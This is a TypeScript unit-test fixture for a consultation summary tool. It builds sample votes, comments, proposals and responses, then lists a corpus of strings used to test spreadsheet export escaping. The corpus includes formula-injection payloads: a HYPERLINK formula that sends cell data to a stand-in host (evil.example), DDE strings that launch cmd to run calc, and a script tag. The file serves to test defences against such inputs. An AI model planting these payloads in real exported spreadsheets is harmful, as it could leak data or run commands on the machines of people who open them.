import type { SummaryContext } from '#shared/summary/input.ts';

/*
 * A small consultation made by hand for the summary's unit tests: every figure the tests expect is worked out in
 * tests/unit/summary.test.ts from these items. Times are UTC; days are counted in Europe/Tirane (UTC+1 in winter).
 */

export const handContext: SummaryContext = {
  consultation: { id: 'kvsp', title: { sq: 'Konsultimi KVSP', en: 'KVSP consultation' } },
  commitments: [
    {
      id: 'b-meetings',
      order: 2,
      title: { sq: 'Takime publike', en: 'Public meetings' },
      sectionIds: ['problem'],
    },
    {
      id: 'a-youth',
      order: 1,
      title: { sq: 'Të rinjtë në KVSP', en: 'Young people in the KVSP' },
      sectionIds: ['problem', 'milestone-m1'],
      sectionLabels: { 'milestone-m1': { sq: 'Hapi: Forumi rinor', en: 'Milestone: Youth forum' } },
    },
  ],
  meetings: [
    {
      id: 'elbasan',
      consultationId: 'kvsp',
      title: { sq: 'Takimi në Elbasan', en: 'Elbasan meeting' },
      municipality: 'elbasan',
      date: '2026-04-03',
      participantCount: 25,
      contributions: [
        { id: 'm1', commitmentId: 'a-youth', text: { sq: 'Një forum rinor pranë KVSP-së.' } },
        { id: 'm2', text: { sq: 'Më shumë komunikim me komunitetin.' } },
      ],
    },
    {
      id: 'elsewhere',
      consultationId: 'other',
      title: { sq: 'Tjetër' },
      municipality: 'fier',
      date: '2026-04-04',
      participantCount: 3,
      contributions: [{ id: 'x', text: { sq: 'Nuk numërohet.' } }],
    },
  ],
  generatedAt: '2026-12-10T12:00:00.000Z',
};

const comment = (fields: Record<string, unknown>) => ({
  type: 'COMMENT',
  consultationId: 'kvsp',
  agree: 0,
  disagree: 0,
  pass: 0,
  replyCount: 0,
  status: 'published',
  ...fields,
});

export const handItems: Record<string, unknown>[] = [
  // p1: declared youth, Elbasan, 18-24.
  {
    type: 'PROFILE',
    pk: 'PARTICIPANT#p1',
    sk: 'PROFILE',
    stakeholderType: 'youth',
    municipality: 'elbasan',
    ageBand: '18-24',
  },
  {
    type: 'VOTE',
    participantId: 'p1',
    commitmentId: 'a-youth',
    choice: 'support',
    createdAt: '2026-12-01T09:00:00.000Z',
  },
  {
    type: 'VOTE',
    participantId: 'p1',
    commitmentId: 'b-meetings',
    choice: 'oppose',
    createdAt: '2026-12-02T10:00:00.000Z',
  },
  comment({
    id: 'C1',
    commitmentId: 'a-youth',
    sectionId: 'problem',
    participantId: 'p1',
    body: 'Të rinjtë duhet të marrin pjesë në KVSP. Shkruani: ana.hoxha@example.com ose +355 69 123 4567',
    createdAt: '2026-12-01T10:00:00.000Z',
    agree: 5,
    disagree: 4,
    pass: 1,
    replyCount: 1,
    responseId: 'R1',
  }),
  // p2: declared NGO, Tirana; votes just before midnight in Tirana's next day.
  { type: 'PROFILE', participantId: 'p2', stakeholderType: 'ngo', municipality: 'tirane' },
  {
    type: 'VOTE',
    participantId: 'p2',
    commitmentId: 'a-youth',
    choice: 'oppose',
    createdAt: '2026-12-01T23:30:00.000Z',
  },
  comment({
    id: 'R1X',
    commitmentId: 'a-youth',
    sectionId: 'problem',
    parentId: 'C1',
    participantId: 'p2',
    body: 'Dakord, rinjte duhet te degjohen.',
    createdAt: '2026-12-02T08:00:00.000Z',
    agree: 1,
  }),
  comment({
    id: 'C4',
    commitmentId: 'a-youth',
    participantId: 'p2',
    body: 'Pa moderuar ende.',
    createdAt: '2026-12-03T12:00:00.000Z',
    status: 'pending',
  }),
  // p3: nothing declared; a vote and a reaction.
  {
    type: 'VOTE',
    participantId: 'p3',
    commitmentId: 'a-youth',
    choice: 'neutral',
    createdAt: '2026-12-03T10:00:00.000Z',
  },
  {
    type: 'REACTION',
    participantId: 'p3',
    commentId: 'C1',
    commitmentId: 'a-youth',
    reaction: 'agree',
    createdAt: '2026-12-03T11:00:00.000Z',
  },
  // p4: profile fields copied onto the vote (as the demo seed writes them).
  {
    type: 'VOTE',
    participantId: 'p4',
    commitmentId: 'b-meetings',
    choice: 'support',
    createdAt: '2026-12-02T12:00:00.000Z',
    stakeholderType: 'police',
    municipality: 'shkoder',
    ageBand: '50-64',
  },
  // p5: only a reaction.
  {
    type: 'REACTION',
    participantId: 'p5',
    commentId: 'C2',
    commitmentId: 'b-meetings',
    reaction: 'disagree',
    createdAt: '2026-12-04T09:00:00.000Z',
  },
  // p6: a comment in English with a display name, and a hidden one.
  comment({
    id: 'C2',
    commitmentId: 'b-meetings',
    participantId: 'p6',
    displayName: 'Arben',
    body: 'Police should meet young people every month in every municipality.',
    createdAt: '2026-12-02T15:00:00.000Z',
    agree: 2,
    disagree: 2,
  }),
  comment({
    id: 'C3',
    commitmentId: 'a-youth',
    sectionId: 'milestone-m1',
    participantId: 'p6',
    body: 'spam spam spam',
    createdAt: '2026-12-03T09:00:00.000Z',
    status: 'hidden',
    agree: 7,
  }),
  // A comment whose author erased themselves.
  comment({
    id: 'C5',
    commitmentId: 'b-meetings',
    participantId: 'erased',
    body: 'Young people need a seat on the council.',
    createdAt: '2026-12-04T10:00:00.000Z',
  }),
  // p7 declared a profile but never took part.
  { type: 'PROFILE', participantId: 'p7', stakeholderType: 'media' },
  // Proposals: one approved and answered (with private contact data), one hidden as spam.
  {
    type: 'PROPOSAL',
    id: 'P1',
    consultationId: 'kvsp',
    kind: 'amendment',
    commitmentId: 'a-youth',
    organisation: { name: 'Qendra Rinore', type: 'ngo', municipality: 'elbasan' },
    contact: { name: 'Drita Hoxha', email: 'drita@example.org', phone: '+355 69 765 4321' },
    title: 'Forum rinor në çdo bashki',
    createdAt: '2026-12-03T08:00:00.000Z',
    status: 'answered',
    visibility: 'approved',
    responseId: 'R1',
  },
  {
    type: 'PROPOSAL',
    id: 'P2',
    consultationId: 'kvsp',
    kind: 'new-commitment',
    organisation: { name: 'Spam', type: 'other', municipality: 'national' },
    title: 'Buy now',
    createdAt: '2026-12-04T08:00:00.000Z',
    status: 'received',
    visibility: 'hidden',
  },
  // Reasoned responses.
  {
    type: 'RESPONSE',
    id: 'R1',
    consultationId: 'kvsp',
    contributions: [
      { kind: 'proposal', id: 'P1' },
      { kind: 'comment', id: 'C1' },
    ],
    disposition: 'partially-accepted',
    justification: { sq: 'Forumi përfshihet si hap i parë.', en: 'The forum is included as a first step.' },
    updatedAt: '2026-12-05T10:00:00.000Z',
  },
  {
    type: 'RESPONSE',
    id: 'R2',
    consultationId: 'kvsp',
    contributions: [{ kind: 'meeting-contribution', id: 'elbasan/m1' }],
    disposition: 'accepted',
    justification: { sq: 'U pranua.' },
    updatedAt: '2026-12-06T10:00:00.000Z',
  },
  // Not this consultation, or no known commitment: skipped.
  { type: 'VOTE', participantId: 'p9', commitmentId: 'zzz', choice: 'support', createdAt: '2026-12-01T09:00:00.000Z' },
  comment({
    id: 'X1',
    consultationId: 'other',
    commitmentId: 'a-youth',
    participantId: 'p9',
    body: 'x',
    createdAt: '2026-12-01T09:00:00.000Z',
  }),
  { type: 'TALLY', pk: 'COMMITMENT#a-youth#TALLY#0', support: 1 },
  { type: 'OWN_COMMENT', commentId: 'C1' },
];

/** Strings that spreadsheets run as formulas (or that try to), and text that must survive as it is. */
export const FORMULA_CORPUS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Kliko")',
  "=cmd|' /C calc'!A0",
  '+1+2',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '=',
  '-',
  '+355 69 000 0000',
  '@dikush',
  '"=1+1"',
  ',=1+1',
  '=1+1\n=2+2',
  'a=1+1',
  '＝1+1',
  "'=already quoted",
  'DDE("cmd";"/C calc";"!A0")',
  '<script>alert(1)</script>',
  'Çfarë bën KVSP-ja? "Citim", me presje; e rresht\nri.',
];

/** A cell a spreadsheet would evaluate: starts with = + - @ (after spaces) or tab / CR, and is not a plain number. */
export function isLiveFormula(cell: string): boolean {
  if (cell.trim() !== '' && Number.isFinite(Number(cell))) return false;
  return /^[\t\r]/.test(cell) || /^\s*[=+\-@]/.test(cell);
}
